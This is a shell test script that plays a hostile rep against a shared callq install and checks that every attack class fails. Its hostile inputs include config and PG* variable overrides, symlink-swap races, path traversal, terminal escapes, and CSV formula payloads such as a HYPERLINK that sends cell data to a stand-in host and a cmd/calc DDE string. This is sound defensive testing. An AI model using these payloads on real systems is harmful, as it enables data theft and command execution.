#!/bin/sh
# A shared floor tried as a hostile rep would: make install-shared with a
# private group, real Unix accounts, and each class of attack run many
# times. Every class says how many attempts it made and how many got
# through ("# class: N attempts, S succeeded"); S must be 0.
# On PostgreSQL (the floor's callq.conf naming a database of the tests'
# server, behind a socket only callq's group may reach, as a floor's
# would be) the attacks on what a rep types, configures and sets in the
# environment run too; those on the SQLite file run on SQLite alone.
. "$(dirname "$0")/../lib.sh"

if [ "$(id -u)" -ne 0 ]; then
	skip "the hostile rep on a shared floor" "it needs root (accounts, a" \
	    "group, chown); run make check as root to run it"
	finish
	exit
fi

. "$top/tests/floor.sh"
rep1=cqr1$tag
rep2=cqr2$tag
tl=cqtl$tag
adm=cqad$tag
for u in "$rep1" "$rep2" "$tl" "$adm"; do
	account "$u"
done
floor_install
h1=$scratch/home/$rep1

# floor_database: the [database] section of the floor's callq.conf; on
# SQLite none (the floor is $db, the install's file).
floor_database() { :; }
if [ "$driver" = pg ]; then
	floor_db hostile
	group_socket
	floor_database() {
		printf '[database]\npostgresql = host=%s port=%s user=%s dbname=%s\n' \
		    "$gdir" "$pgport" "$db_role" "$db_role"
	}
	floor_database >>"$conf"
	"$bin" init >/dev/null || { echo "the floor's init failed"; exit 1; }
fi
# floor_read SQL: reads the floor as root. On SQLite, the sqlite3 shell
# keeping -wal and -shm as callq does (it would delete them at exit).
floor_read() {
	if [ "$driver" = sqlite ]; then
		floor_sql "$@"
	else
		"$sq" "$db" "$@"
	fi
}

"$bin" region add East --country US >/dev/null
"$bin" region add West --country US >/dev/null
"$bin" user add "$adm" --role admin >/dev/null
"$bin" user add "$tl" --role lead --team East >/dev/null
"$bin" user add "$rep1" --role rep --team East --region East \
    --phone +14155550151 >/dev/null
"$bin" user add "$rep2" --role rep --team West --region West \
    --phone +14155550152 >/dev/null
"$bin" setting set hours 00:00-24:00 >/dev/null
"$bin" lead add --name "Acme Deli" --phone "+1 212-736-0101" --region East \
    --owner "$rep1" >/dev/null
"$bin" lead add --name "West Bakery" --phone "+1 415-736-0102" \
    --region West --owner "$rep2" >/dev/null
lead1=$("$bin" lead list --format json | python3 -c \
    'import json,sys; print([l["id"] for l in json.load(sys.stdin) if l["name"] == "Acme Deli"][0])')

# tally CLASS ATTEMPTS SUCCEEDED: the class's line, and its check.
tally() {
	echo "# $1: $2 attempts, $3 succeeded"
	ok "$1: none of $2 attempts got through" test "$3" -eq 0
}

# The floor's provider, and a listener of the rep's own: both record
# every request they get.
python3 "$top/tests/fakeprov.py" "$scratch/port" "$scratch/floor.jsonl" \
    "$scratch/mode" &
python3 "$top/tests/fakeprov.py" "$scratch/port2" "$scratch/rep.jsonl" \
    "$scratch/mode" &
eventually "[ -s '$scratch/port' ] && [ -s '$scratch/port2' ]" ||
    { echo "the fake providers did not start"; exit 1; }
port=$(cat "$scratch/port")
port2=$(cat "$scratch/port2")
: >"$scratch/floor.jsonl"
: >"$scratch/rep.jsonl"
whsec=whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw
floor_conf() { # the floor's callq.conf, its text on stdin
	{ cat; floor_database; } >"$conf"
	chown root:"$group" "$conf"
	chmod 0640 "$conf"
}
floor_webhook() {
	printf '[dial]\nprovider = webhook\n[webhook]\nurl = %s\nsecret = %s\n' \
	    "http://127.0.0.1:$port/dial" "$whsec" | floor_conf
}
floor_webhook
requests() { wc -l <"$scratch/$1.jsonl"; }

# 1. The floor's provider settings belong to the floor: a rep's own file,
# --config or CALLQ_CONFIG cannot move a request, its secret or its
# numbers. Each attempt must be refused (78) with nothing sent anywhere.
mkdir -p "$h1/.config/callq"
chown -R "$rep1" "$h1/.config"
mine=$h1/.config/callq/callq.conf
settings="dial|provider = twilio
dial|trace = $h1/trace.log
webhook|url = http://127.0.0.1:$port2/dial
webhook|secret = whsec_cmVwc293bnNlY3JldA==
webhook|secret_file = $h1/secret
twilio|base_url = http://127.0.0.1:$port2
twilio|account_sid = ACrep
twilio|auth_token = rep-token
twilio|caller_id = +14155550199
twilio|to = +14155550199
ari|url = http://127.0.0.1:$port2
ari|user = rep
ari|password = rep
ari|endpoint = PJSIP/666
ari|caller_id = +14155550199"
attempts=0
through=0
try_setting() { # $1: how the file is named (personal, --config)
	if [ "$1" = personal ]; then
		as "$rep1" "$bin" call "$lead1" >"$scratch/o" 2>&1
	else
		as "$rep1" "$bin" --config "$mine" call "$lead1" >"$scratch/o" 2>&1
	fi
	rc=$?
	attempts=$((attempts + 1))
	if [ $rc -ne 78 ] || ! grep -q "is the floor's to set" "$scratch/o"; then
		through=$((through + 1))
		sed 's/^/#   /' "$scratch/o"
	fi
}
echo "$settings" | while IFS='|' read -r section line; do
	printf '[%s]\n%s\n' "$section" "$line" >"$mine"
	chown "$rep1" "$mine"
	chmod 600 "$mine"
	try_setting personal
	try_setting --config
	echo "$attempts $through" >"$scratch/tally"
done
read -r attempts through <"$scratch/tally"
sent=$(($(requests floor) + $(requests rep)))
tally "provider settings from a rep's own file or --config" \
    $attempts $((through + sent))
printf '[webhook]\nurl = http://127.0.0.1:%s/dial\n' "$port2" >"$mine"
as "$rep1" "$bin" call "$lead1" >"$scratch/o" 2>&1
ok "the refusal names the rep's file, its line and the key" \
    grep -q "^callq: $mine:2: \[webhook\] url is the floor's to set" \
    "$scratch/o"
printf '[dial]\ntimeout_ms = 60000\n' >"$mine"
ok "a timeout of the rep's own is taken" \
    as "$rep1" env CALLQ_CONFIG="$scratch/none.conf" "$bin" call "$lead1"
rm -f "$mine"
ok "CALLQ_CONFIG is not read by the setgid callq, and the dial went to the floor's provider" \
    test "$(requests floor)" -eq 1 -a "$(requests rep)" -eq 0
ok "ringing the rep's own phone from the user record, and the lead's number" \
    python3 -c "
import json, sys
r = json.loads(open('$scratch/floor.jsonl').read().splitlines()[-1])
b = json.loads(r['body'])
sys.exit(0 if b['rep_phone'] == '+14155550151' and
         b['phone_e164'] == '+12127360101' else 1)"
as "$rep1" "$bin" user edit "$rep1" --phone +14155550199 >/dev/null 2>&1
ok "a rep cannot point its own phone elsewhere" test $? -eq 77
as "$rep1" "$bin" --as "$rep2" call "$lead1" >/dev/null 2>&1
ok "nor dial as another rep" test $? -eq 77

# 12. On PostgreSQL libpq takes its defaults from PG* variables, which
# are the rep's: none may steer the floor's connection. Each, if taken,
# would fail the rep's note (a read-only session, no schema to find, a
# standby wanted, another address); the note must be written, as sent.
if [ "$driver" = pg ]; then
	# PGSERVICE's service, in the rep's own service file.
	printf '[floor]\nhostaddr=127.0.0.1\n' >"$h1/.pg_service.conf"
	attempts=0
	through=0
	for var in "PGOPTIONS=-c default_transaction_read_only=on" \
	    "PGOPTIONS=-c search_path=nowhere" \
	    "PGTARGETSESSIONATTRS=read-only" "PGHOSTADDR=127.0.0.1" \
	    "PGSERVICE=floor"; do
		attempts=$((attempts + 1))
		as "$rep1" env "$var" "$bin" note add "$lead1" \
		    "café $attempts" >"$scratch/o" 2>&1 ||
		    { through=$((through + 1)); sed 's/^/#   /' "$scratch/o"; }
	done
	written=$(floor_read "SELECT count(*) FROM notes WHERE body LIKE 'café %'")
	tally "the rep's PG* variables steering the floor's connection" \
	    $attempts $((through + attempts - written))
fi

# 10. Credentials never hide in addresses: refused at load, never shown,
# stored or audited.
attempts=0
through=0
for url in "http://alice:Pw0rd-7731@127.0.0.1:$port/dial" \
    "http://Pw0rd-7731@127.0.0.1:$port/dial" \
    "https://alice:Pw0rd-7731@pbx.example.com/dial"; do
	for section in webhook ari twilio; do
		key=url
		[ $section = twilio ] && key=base_url
		printf '[dial]\nprovider = %s\n[%s]\n%s = %s\n' "$section" \
		    "$section" "$key" "$url" | floor_conf
		as "$rep1" "$bin" call "$lead1" >"$scratch/o" 2>&1
		rc=$?
		attempts=$((attempts + 1))
		if [ $rc -ne 78 ] || grep -q Pw0rd "$scratch/o" ||
		    ! grep -q "holds a user name or password" "$scratch/o"; then
			through=$((through + 1))
			sed 's/^/#   /' "$scratch/o"
		fi
	done
done
stored=$(floor_read "SELECT (SELECT count(*) FROM calls WHERE
    coalesce(error, '') || coalesce(provider_ref, '') LIKE '%Pw0rd%') +
    (SELECT count(*) FROM audit WHERE details LIKE '%Pw0rd%')")
tally "credentials in a provider address" $attempts $((through + stored))
floor_webhook

# 6. Another rep's lead reads as a missing one, whatever names it.
west=$("$bin" lead list --format json | python3 -c \
    'import json,sys; print([l["id"] for l in json.load(sys.stdin) if l["name"] == "West Bakery"][0])')
as "$rep2" "$bin" note add "$west" "asked for the owner" >/dev/null
attempts=0
through=0
for cmd in "timeline" "lead show" "lead edit %s --name Mine" \
    "log %s --disposition Busy" "note add %s hello" "followup add %s tomorrow" \
    "call" "lead stage %s Won" "assign %s --to $rep1"; do
	case $cmd in *%s*) ;; *) cmd="$cmd %s" ;; esac
	# shellcheck disable=SC2059
	as "$rep1" "$bin" $(printf "$cmd" "$west") >"$scratch/seen" 2>&1
	seen=$?
	as "$rep1" "$bin" $(printf "$cmd" 99999) >"$scratch/none" 2>&1
	none=$?
	attempts=$((attempts + 1))
	if [ $seen -ne $none ] || [ "$(sed "s/\b$west\b/N/g" "$scratch/seen")" != \
	    "$(sed 's/\b99999\b/N/g' "$scratch/none")" ] ||
	    grep -q "$rep2\|West" "$scratch/seen"; then
		through=$((through + 1))
		sed 's/^/#   /' "$scratch/seen"
	fi
done
as "$tl" "$bin" audit list --format csv >"$scratch/o"
grep -q "$rep2" "$scratch/o" && through=$((through + 1))
tally "another team's lead named by id, and its audit" $((attempts + 1)) \
    $through

# 7. Calling hours cannot be edited away.
attempts=0
through=0
for who_zone in "$rep1:Asia/Tokyo" "$rep1:America/New_York" \
    "$tl:Asia/Tokyo" "$tl:Etc/GMT+12" "$adm:../../../etc/passwd" \
    "$adm:posix/Asia/Tokyo" "$adm:Mars/Olympus" "$adm:localtime"; do
	as "${who_zone%%:*}" "$bin" lead edit "$lead1" \
	    --timezone "${who_zone#*:}" >/dev/null 2>&1 &&
	    through=$((through + 1))
	attempts=$((attempts + 1))
done
zone=$("$bin" lead show "$lead1" --format json | python3 -c \
    'import json,sys; print([f["value"] for f in json.load(sys.stdin) if f["field"] == "timezone"][0])')
[ "$zone" = America/New_York ] || through=$((through + 1))
tally "a lead's time zone set by someone who may not, or to no zone" \
    $attempts $through

# 8 and 9. What a rep writes reaches a team lead's spreadsheet and screen
# as data: controls are refused, formulas are neutralized.
attempts=0
through=0
esc=$(printf '\033')
for text in "$(printf 'ok\033]0;owned\007')" "$(printf 'ok\033[2J')" \
    "$(printf 'ok\302\233')" "$(printf 'ok\342\200\256')" \
    "$(printf 'a\tb')"; do
	as "$rep1" "$bin" note add "$lead1" "$text" >/dev/null 2>&1 &&
	    through=$((through + 1))
	as "$rep1" "$bin" log "$lead1" --disposition Busy --note "$text" \
	    >/dev/null 2>&1 && through=$((through + 1))
	as "$rep1" "$bin" lead edit "$lead1" --city "$text" >/dev/null 2>&1 &&
	    through=$((through + 1))
	attempts=$((attempts + 3))
done
as "$tl" "$bin" timeline "$lead1" | grep -q "$esc" && through=$((through + 1))
tally "control characters in a rep's free text" $attempts $through
attempts=0
through=0
n=10
for f in '=HYPERLINK("http://x.example/"&A1)' "+cmd|' /C calc'!A0" \
    '@SUM(A1)' '-2+3' "$(printf '\tx')" "$(printf '\rx')"; do
	n=$((n + 1))
	as "$rep1" "$bin" lead add --name "Bolt $f" --city "$f" \
	    --phone "+1 212-736-01$n" --region East >/dev/null 2>&1
	attempts=$((attempts + 1))
done
as "$tl" "$bin" lead list --format csv --output "$scratch/home/$tl/leads.csv"
through=$(python3 -c "
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline='')))
print(sum(1 for r in rows for v in r.values() if v and v[0] in '=+-@\t\r'
    and not v.lstrip('+-').replace('.', '', 1).isdigit()))" \
    "$scratch/home/$tl/leads.csv")
tally "formulas in a team lead's export" $attempts $through

# 11. Search text is text.
as "$rep1" "$bin" lead list --search % --format csv >"$scratch/o"
ok "a rep's --search % finds no lead, as none holds a %" \
    test "$(tail -n +2 "$scratch/o" | wc -l)" -eq 0

# The rest is about the SQLite file itself: its name under --db, its
# journals, its descriptors, and its write lock.
if [ "$driver" = pg ]; then
	finish
	exit
fi

# 2. --db is decided by its name before anything is opened: a link
# swapped between the rep's own database and the floor's never opens
# the floor's with the rep's data nor the rep's with the floor's group.
as "$rep1" "$bin" --db "$h1/own.db" init >/dev/null
as "$rep1" "$bin" --db "$h1/own.db" region add Mine --country US >/dev/null
as "$rep1" "$bin" --db "$h1/own.db" user edit "$rep1" \
    --phone +14155550177 >/dev/null
as "$rep1" "$bin" --db "$h1/own.db" setting set hours 00:00-24:00 >/dev/null
as "$rep1" "$bin" --db "$h1/own.db" lead add --name Mine \
    --phone "+1 212-736-0177" --region Mine --owner "$rep1" >/dev/null
as_bg "$rep1" sh -c "while :; do ln -sfn '$db' '$h1/link'; ln -sfn \
    '$h1/own.db' '$h1/link'; ln -sfn '$db' '$h1/new'; ln -sfn \
    '$statedir/planted.db' '$h1/new'; done"
swapper=$!
i=0
while [ $i -lt 200 ]; do
	as "$rep1" "$bin" --db "$h1/link" call 1 >/dev/null 2>&1
	[ $((i % 4)) -eq 0 ] && as "$rep1" "$bin" --db "$h1/new" init \
	    >/dev/null 2>&1
	i=$((i + 1))
done
kill $swapper
wait $swapper 2>/dev/null
# The rep's own phone is only in the rep's own database.
own=$(grep -c '"rep_phone": "+14155550177"' "$scratch/floor.jsonl")
planted=$(find "$statedir" ! -name 'callq.db*' ! -path "$statedir" | wc -l)
tally "a link swapped under --db (dial, init)" 250 $((own + planted))
ln -sfn "$db" "$h1/link"
as "$rep1" "$bin" --db "$h1/link" queue >"$scratch/o" 2>&1
ok "a link to the floor's database is the rep's own: it cannot be opened" \
    grep -q "no database at $h1/link" "$scratch/o"
as "$rep1" "$bin" --db "$db" queue >/dev/null 2>&1
ok "while its own name opens it" test $? -eq 0

# 4. The write-ahead log and shared memory stay the floor's.
ok "the install made -wal and -shm root:$group 0660" \
    test "$(mode "$db-wal") $(mode "$db-shm")" = \
    "660 root:$group 660 root:$group"
as "$rep2" "$bin" queue >/dev/null
as "$rep1" "$bin" log "$lead1" --disposition "No answer" >/dev/null
ok "and they stay so after reps used the floor" \
    test "$(mode "$db-wal") $(mode "$db-shm")" = \
    "660 root:$group 660 root:$group"
mv "$db-wal" "$scratch/wal"
mv "$db-shm" "$scratch/shm"
as "$rep1" "$bin" queue >"$scratch/o" 2>&1
ok "a rep's callq does not make them when they are gone" \
    sh -c "grep -q 'has no $db-wal' '$scratch/o' && test ! -e '$db-wal'"
mv "$scratch/wal" "$db-wal"
mv "$scratch/shm" "$db-shm"
chown "$rep1" "$db-shm"
as "$rep2" "$bin" queue >"$scratch/o" 2>&1
ok "nor opens them when they belong to a user" \
    grep -q "$db-shm does not belong to the database's owner" "$scratch/o"
chown root "$db-shm"

# Every file callq opens for a user is checked once open: through
# /proc/self/fd (the database's own descriptors), a file of callq's
# group, or a file under the state or configuration directory.
echo "+1 212 736 0155" >"$confdir/numbers.txt"
chmod 0644 "$confdir/numbers.txt"
cp "$confdir/numbers.txt" "$scratch/grouped.txt"
chown root:"$group" "$scratch/grouped.txt"
chmod 0644 "$scratch/grouped.txt"
# refused FILE: the output in FILE is a refusal to open what was named.
refused() {
	grep -q "one of callq's own files\|Permission denied\|No such file" "$1"
}
attempts=0
through=0
for f in /proc/self/fd/3 /proc/self/fd/4 /proc/self/fd/5 /proc/self/fd/6 \
    /proc/self/fd/7 "$confdir/numbers.txt" "$scratch/grouped.txt"; do
	as "$adm" "$bin" import "$f" --region East >"$scratch/o0" 2>&1
	for u in "$rep1" "$adm"; do
		as "$u" "$bin" dnc import "$f" >"$scratch/o1" 2>&1
		as "$u" "$bin" --config "$f" call "$lead1" >"$scratch/o2" 2>&1
		for o in o0 o1 o2; do
			[ -e "$scratch/$o" ] || continue
			attempts=$((attempts + 1))
			refused "$scratch/$o" || { through=$((through + 1));
			    sed 's/^/#   /' "$scratch/$o"; }
		done
		rm -f "$scratch/o0"
	done
done
tally "the floor's files reopened through a name the user gives" \
    $attempts $through
as "$rep1" "$bin" dnc import "$scratch/grouped.txt" >"$scratch/o" 2>&1
ok "the refusal says why" grep -q \
    "cannot open $scratch/grouped.txt: it is one of callq's own files" \
    "$scratch/o"

# 3. A rep cannot stall the floor. Ctrl-Z (SIGTSTP) waits for the end of
# a transaction, so a rep's import stopped at any moment holds no lock
# and another rep's write goes straight through.
python3 -c "
for i in range(200000): print('+1 212 %03d %04d' % (200 + i // 10000, i % 10000))
" >"$h1/numbers.txt"
chown "$rep1" "$h1/numbers.txt"
# In a process group of its own, as a shell's job is: the kernel ignores
# Ctrl-Z in a group with no parent outside it (CI runs in one).
as_bg "$rep1" python3 -c 'import os, sys
os.setpgid(0, 0)
os.execv(sys.argv[1], sys.argv[1:])' "$bin" dnc import "$h1/numbers.txt" \
    >/dev/null 2>&1
stopper=$!
eventually "grep -qx callq /proc/$stopper/comm"
attempts=0
through=0
while [ $attempts -lt 20 ] && kill -TSTP $stopper 2>/dev/null; do
	eventually "[ \"\$(sed 's/.*) \(.\).*/\1/' /proc/$stopper/stat)\" = T ]" ||
	    break
	attempts=$((attempts + 1))
	as "$rep2" "$bin" dnc add "+1 415 555 $((1000 + attempts))" \
	    >"$scratch/o" 2>&1 || { through=$((through + 1));
	    sed 's/^/#   /' "$scratch/o"; }
	kill -CONT $stopper
done
kill -CONT $stopper 2>/dev/null
wait $stopper
ok "the rep's import was stopped at least ten times" test $attempts -ge 10
tally "a write while another rep's callq is stopped by Ctrl-Z" \
    $attempts $through

# A process stopped otherwise (SIGSTOP cannot be put off) while it holds
# the lock: the writer gives up within its wait and names it.
python3 -c "
import os, signal, sqlite3
c = sqlite3.connect('$db', isolation_level=None)
c.execute('PRAGMA journal_mode')
c.execute('BEGIN IMMEDIATE')
c.execute(\"INSERT INTO dnc (phone_e164, added_at) VALUES ('+14155550999', 0)\")
os.kill(os.getpid(), signal.SIGSTOP)
" &
holder=$!
eventually "[ \"\$(sed 's/.*) \(.\).*/\1/' /proc/$holder/stat)\" = T ]"
as "$rep2" "$bin" dnc add "+1 415 555 2000" >"$scratch/o" 2>&1
rc=$?
kill -KILL $holder
wait $holder 2>/dev/null
ok "a writer behind a stopped holder gives up with status 75" test $rc -eq 75
ok "and names the holder: its pid, command, account and state" grep -q \
    "process $holder ([^)]*python3 -c .*) of root, stopped, holds its write lock" \
    "$scratch/o"
ok "once it is ended the floor writes again" \
    as "$rep2" "$bin" dnc add "+1 415 555 2000"

# 5. The import's phone workers hold no descriptor of the database.
python3 "$top/tests/bench/gen_leads.py" 150000 >"$scratch/home/$adm/big.csv"
chown "$adm" "$scratch/home/$adm/big.csv"
as_bg "$adm" "$bin" import "$scratch/home/$adm/big.csv" --region East \
    --workers 2 >/dev/null 2>&1
importer=$!
seen=0
through=0
for w in $(eventually "ps -o pid= --ppid $importer | grep -q ." &&
    ps -o pid= --ppid "$importer"); do
	seen=$((seen + 1))
	ls -l "/proc/$w/fd" 2>/dev/null | grep -q "$statedir" &&
	    through=$((through + 1))
done
wait $importer
ok "the import's workers were seen" test $seen -ge 1
tally "the database reached from an import's phone worker" $seen $through

finish
